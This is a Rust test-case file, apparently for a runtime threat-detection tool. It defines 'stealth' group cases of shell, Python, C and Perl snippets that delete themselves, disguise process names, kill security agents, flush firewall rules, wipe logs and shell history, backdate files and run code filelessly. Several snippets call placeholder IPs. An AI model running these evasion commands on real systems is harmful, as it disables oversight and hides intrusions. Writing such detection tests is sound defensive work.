use super::{bash, c, perl, python, sh};
use crate::case::Case;
use crate::tools::Tool;

const GROUP: &str = "stealth";

pub(super) fn cases() -> Vec<Case> {
    vec![
        sh(GROUP, "removes itself, shell", &["D-EVA-SELFDEL"], "rm -f /entrypoint.sh; wget -q -O /dev/null http://203.0.113.12/on").suspicious(),
        python(GROUP, "removes itself, python", &["D-EVA-SELFDEL"], "import os, socket\nos.unlink(__file__)\nsocket.create_connection(('192.0.2.13', 4443), 5)\n").suspicious(),
        bash(
            GROUP,
            "calls itself a thread of the kernel, bash",
            &["D-EVA-ARGV0"],
            "cp /bin/busybox /var/tmp/h; exec 3<>/dev/tcp/203.0.113.14/80; (exec -a '[kworker/u8:1]' /usr/bin/bash -c 'sleep 3; true')",
        )
        .suspicious(),
        c(
            GROUP,
            "calls itself a service of the system, c",
            &["D-EVA-ARGV0"],
            r#"int main(int n, char **v) { prctl(PR_SET_NAME, "kworker/0:0", 0, 0, 0); if (n < 2) { char *a[] = {"/usr/sbin/sshd", "-D", 0}; execv("/proc/self/exe", a); } dial("198.51.100.5", 8080); sleep(2); return 0; }"#,
        )
        .suspicious(),
        sh(GROUP, "hidden by a mount, shell", &["D-EVA-BINDPROC"], "mkdir -p /var/e; mount -o bind /var/e /proc/1"),
        c(GROUP, "hidden by a mount, c", &["D-EVA-BINDPROC"], r#"int main() { char p[64]; sprintf(p, "/proc/%d", getpid()); mkdir("/e", 0755); if (mount("/e", p, 0, MS_BIND, 0)) perror("mount"); if (mount("none", p, "tmpfs", 0, 0)) perror("mount"); return 0; }"#),
        sh(
            GROUP,
            "agents stopped and rules flushed, shell",
            &["D-EVA-KILLSEC"],
            "pkill -9 AliYunDun; killall falco; iptables -F; setenforce 0; echo done",
        )
        .file("bin/iptables", 0o755, "#!/bin/sh\nexit 0\n")
        .file("bin/setenforce", 0o755, "#!/bin/sh\nexit 0\n"),
        python(GROUP, "agents stopped, python", &["D-EVA-KILLSEC"], "import subprocess\nsubprocess.run(['pkill', '-f', 'aegis'])\nsubprocess.run(['/bin/killall', '-9', 'auditd'])\n"),
        sh(GROUP, "logs wiped, shell", &["D-EVA-LOGHIST"], ": > /var/log/wtmp; rm -f /var/log/auth.log; ln -sf /dev/null /root/.bash_history").suspicious(),
        perl(GROUP, "logs wiped, perl", &["D-EVA-LOGHIST"], r#"truncate('/var/log/wtmp', 0); open(F, '>', '/var/log/auth.log'); close F; unlink '/var/log/auth.log';"#).suspicious(),
        sh(
            GROUP,
            "program dated back, shell",
            &["D-EVA-UTIMES"],
            "cat /bin/busybox > /usr/sbin/httpd; chmod 755 /usr/sbin/httpd; touch -t 202001010000 /usr/sbin/httpd; /usr/sbin/httpd true; wget -qO /dev/null http://203.0.113.16/",
        )
        .suspicious(),
        python(
            GROUP,
            "program dated back, python",
            &["D-EVA-UTIMES"],
            "import os, shutil, subprocess\nshutil.copyfile('/bin/busybox', '/usr/bin/busybox')\nos.chmod('/usr/bin/busybox', 0o755)\nos.utime('/usr/bin/busybox', (1500000000, 1500000000))\nsubprocess.call(['/usr/bin/busybox', 'true'])\n",
        )
        .suspicious(),
        c(
            GROUP,
            "program whose file is gone, c",
            &["D-EVA-DELEXEC", "D-EVA-SELFDEL"],
            r#"int main(int n, char **v) { int f = open("/proc/self/exe", O_RDONLY | O_CLOEXEC); unlink("/usr/sbin/serviced"); char *a[] = {"s", "x", 0}; if (n < 2) { fexecve(f, a, a + 2); perror("x"); } dial("192.0.2.15", 443); return 0; }"#,
        )
        .suspicious(),
        sh(GROUP, "program whose file is gone, shell", &["D-EVA-DELEXEC", "D-DLX-DROPEXEC", "D-DLX-FETCHEXEC"], "wget -qO /tmp/busybox http://203.0.113.18/linux-x86_64; cp /bin/busybox /tmp/busybox; chmod +x /tmp/busybox; exec 3</tmp/busybox; rm /tmp/busybox; /proc/self/fd/3 true || /proc/$$/fd/3 true").suspicious(),
        c(
            GROUP,
            "code in memory to write and run, c",
            &["D-EVA-ANONEXEC"],
            r#"int main() { unsigned char *p = mmap(0, 4096, 7, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0); p[0] = 0xc3; ((void (*)(void))p)(); dial("203.0.113.19", 8443); return 0; }"#,
        )
        .suspicious(),
        sh(
            GROUP,
            "library forced into children, shell",
            &["D-EVA-PRELOADCHILD"],
            "head -c 600 /bin/busybox > /tmp/l.so; LD_PRELOAD=/tmp/l.so /bin/busybox ls / >/dev/null; wget -qO /dev/null http://192.0.2.20/ok",
        )
        .suspicious(),
        python(
            GROUP,
            "library forced into children, python",
            &["D-EVA-PRELOADCHILD"],
            "import os, subprocess\nopen('/dev/shm/h.so', 'wb').write(open('/bin/busybox', 'rb').read(700))\nsubprocess.run(['/usr/bin/bash', '-c', 'true'], env={'LD_PRELOAD': '/dev/shm/h.so'})\n",
        )
        .with(&[Tool::Bash])
        .suspicious(),
    ]
}
